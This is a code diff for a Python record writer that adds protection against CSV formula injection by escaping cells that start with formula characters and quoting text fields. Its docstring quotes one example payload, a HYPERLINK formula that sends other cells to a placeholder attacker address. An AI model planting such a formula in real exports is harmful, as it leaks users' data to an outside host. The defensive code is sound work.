@@ -17,15 +17,39 @@ def _cell(value: Any) -> Any:
     return value
 
 
+# A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV Injection"); tab, CR and
+# LF are among them because some spreadsheets skip them before looking for the "=".
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def _text_cell(value: Any) -> Any:
+    """A CSV cell a spreadsheet shows as text, never runs (OWASP's CSV injection advice).
+
+    Titles and texts come from any site: `=HYPERLINK("http://evil.example/?"&A1,"Lire")` opened in the
+    researcher's Excel or LibreOffice runs and sends other cells to its address. A text starting with a
+    formula character gets a leading `'`, which the spreadsheet reads as "text follows" and hides. Numbers
+    (score, ids) are written as they are, a negative one too; Arabic or French text that starts otherwise
+    is untouched. Every text cell is also quoted (QUOTE_NONNUMERIC): a French Excel splits an unquoted
+    line on `;`, so `a;=1+1` would otherwise start a cell of its own with `=`."""
+    value = _cell(value)
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 def write_records(records: Iterable[dict[str, Any]], output: str, sink: IO[str], fields: Sequence[str]) -> int:
     """Write `records` to `sink` as `jsonl` or `csv` (with a header of `fields`); how many were written."""
     written = 0
-    writer = csv.DictWriter(sink, fields, lineterminator="\n", extrasaction="ignore") if output == "csv" else None
+    writer = (
+        csv.DictWriter(sink, fields, lineterminator="\n", extrasaction="ignore", quoting=csv.QUOTE_NONNUMERIC)
+        if output == "csv"
+        else None
+    )
     if writer is not None:
         writer.writeheader()
     for record in records:
         if writer is not None:
-            writer.writerow({key: _cell(value) for key, value in record.items()})
+            writer.writerow({key: _text_cell(value) for key, value in record.items()})
         else:
             sink.write(json.dumps(record, ensure_ascii=False) + "\n")
         written += 1
